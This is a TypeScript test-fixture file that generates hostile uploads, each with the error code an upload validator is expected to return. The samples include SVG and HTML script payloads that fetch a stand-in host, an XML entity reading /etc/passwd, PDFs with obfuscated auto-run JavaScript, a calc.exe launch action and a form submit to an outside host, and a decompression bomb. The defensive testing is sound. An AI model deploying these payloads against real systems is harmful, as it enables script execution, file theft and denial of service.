import { deflateSync } from 'node:zlib';
import type { ErrorCode } from '#common/contract/ipc/reply.ts';
import { aPdf, streamOf, type PdfOptions } from './pdfs.ts';
import { aPicture } from './pictures.ts';

/** What a script in one of these files would call, so that a test can see whether anything ran. */
const PROOF = "globalThis.__ran = true; fetch('https://evil.example/');";
const OUTSIDE = 'https://evil.example/';

export type HostileFile = { name: string; bytes: Uint8Array; refused: ErrorCode };

function text(content: string): Uint8Array {
  return Uint8Array.from(Buffer.from(content, 'latin1'));
}

function followed(bytes: Uint8Array, content: string): Uint8Array {
  return Uint8Array.from(Buffer.concat([bytes, Buffer.from(content, 'latin1')]));
}

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PROOF}"><script>${PROOF}</script><image href="${OUTSIDE}"/></svg>`;
const HTML = `<!doctype html><img src="${OUTSIDE}" onerror="${PROOF}"><script>${PROOF}</script>`;
const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024));

/** Made here and nowhere kept: each wants to run, fetch, hide or burst something. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  { name: 'a drawing that runs a script', bytes: text(SVG), refused: 'FILE_TYPE_NOT_ALLOWED' },
  {
    name: 'a drawing with an XML head and an entity',
    bytes: text(`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`),
    refused: 'FILE_TYPE_NOT_ALLOWED',
  },
  { name: 'a web page named as a picture', bytes: text(HTML), refused: 'FILE_TYPE_NOT_ALLOWED' },
  {
    name: 'a web page with a PDF behind it',
    bytes: followed(text(HTML), Buffer.from(aPdf()).toString('latin1')),
    refused: 'FILE_TYPE_NOT_ALLOWED',
  },
  { name: 'a PDF head with a web page behind it', bytes: text(`%PDF-1.7\n${HTML}`), refused: 'FILE_CUT_OFF' },
  {
    name: 'a PNG with a web page behind its end',
    bytes: followed(aPicture(), HTML),
    refused: 'FILE_CARRIES_MORE',
  },
  { name: 'a PNG that breaks off', bytes: aPicture().subarray(0, -20), refused: 'FILE_CUT_OFF' },
  { name: 'a PNG that bursts', bytes: aPicture(9, 20_000, 5_000), refused: 'PICTURE_TOO_LARGE' },
  { name: 'a PDF that runs a script when it opens', bytes: opening('/JavaScript'), refused: 'PDF_ACTIVE' },
  { name: 'a script under a written-out name', bytes: opening('/J#61vaScript'), refused: 'PDF_ACTIVE' },
  {
    name: 'a script in a packed list of objects',
    bytes: aPdf({ isPacked: true, objects: [`<< /S /JavaScript /JS (${escaped(PROOF)}) >>`] }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a packed list whose own entries try to hide it',
    bytes: aPdf({
      isPacked: true,
      packedEntries: '/Note (1 0 obj)',
      objects: [`<< /S /JavaScript /JS (${escaped(PROOF)}) >>`],
    }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a packed list behind a comment',
    bytes: hidden({ isPacked: true, packedGap: ' % note\n' }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a packed list behind many blanks',
    bytes: hidden({ isPacked: true, packedGap: ' '.repeat(200) }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a packed list without the line that begins a stream',
    bytes: aPdf({
      objects: ['<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream%\nabcd\nendstream'],
    }),
    refused: 'FILE_UNREADABLE',
  },
  {
    name: 'a script inside what looks like a stream',
    bytes: aPdf({ objects: [`null % >>\nstream\n<< /S /JavaScript /JS (${escaped(PROOF)}) >>\nendstream`] }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a script behind a string that looks like a stream',
    bytes: aPdf({ objects: ['(a stream\n)', `<< /S /JavaScript /JS (${escaped(PROOF)}) >>`] }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a script behind a comment that looks like a stream',
    bytes: aPdf({ objects: ['null % stream\n', `<< /S /JavaScript /JS (${escaped(PROOF)}) >>`] }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a list of objects packed into letters',
    bytes: aPdf({
      objects: [streamOf('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', Buffer.from('2f4a53>'))],
    }),
    refused: 'FILE_UNREADABLE',
  },
  {
    name: 'a list of objects that does not call itself one',
    bytes: aPdf({
      objects: [
        streamOf('/N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from('5 0 << /S /JavaScript >>'))),
      ],
    }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a PDF that starts a program',
    bytes: aPdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a PDF with a file inside',
    bytes: aPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(x) 100 0 R] >> >>',
      objects: [streamOf('/Type /EmbeddedFile', Buffer.from(HTML))],
    }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a PDF with an active form',
    bytes: aPdf({
      catalog: '/AcroForm << /XFA 100 0 R /Fields [] >>',
      objects: [streamOf('', Buffer.from(SVG))],
    }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a PDF that sends a form away',
    bytes: aPdf({ catalog: `/OpenAction << /S /SubmitForm /F (${OUTSIDE}) >>` }),
    refused: 'PDF_ACTIVE',
  },
  {
    name: 'a locked PDF',
    bytes: aPdf({ trailer: '/Encrypt 100 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
    refused: 'PDF_LOCKED',
  },
  { name: 'a PDF that breaks off', bytes: aPdf().subarray(0, -60), refused: 'FILE_CUT_OFF' },
  { name: 'a PDF of very many pages', bytes: aPdf({ pages: 61 }), refused: 'PDF_TOO_LONG' },
  {
    name: 'a PDF whose list of objects unpacks without end',
    bytes: aPdf({ objects: [streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
    refused: 'FILE_UNREADABLE',
  },
  { name: 'a TIFF', bytes: text('II*\0\x08\0\0\0'), refused: 'FILE_IS_TIFF' },
];

/** Taken as what they are; whatever else they carry must have no effect. */
export const HARMLESS_FILES: readonly { name: string; bytes: Uint8Array }[] = [
  { name: 'a plain PDF', bytes: aPdf() },
  { name: 'a packed PDF', bytes: aPdf({ isPacked: true, pages: 3 }) },
  {
    name: 'a PDF with a link',
    bytes: aPdf({
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${OUTSIDE}) >> >>]`,
    }),
  },
  { name: 'a PNG', bytes: aPicture() },
];

function hidden(options: PdfOptions): Uint8Array {
  return aPdf({ ...options, objects: [`<< /S /JavaScript /JS (${escaped(PROOF)}) >>`] });
}

function opening(kind: string): Uint8Array {
  return aPdf({ catalog: `/OpenAction << /S ${kind} /JS (${escaped(PROOF)}) >>` });
}

function escaped(script: string): string {
  return script.replaceAll(/[()\\]/g, String.raw`\$&`);
}
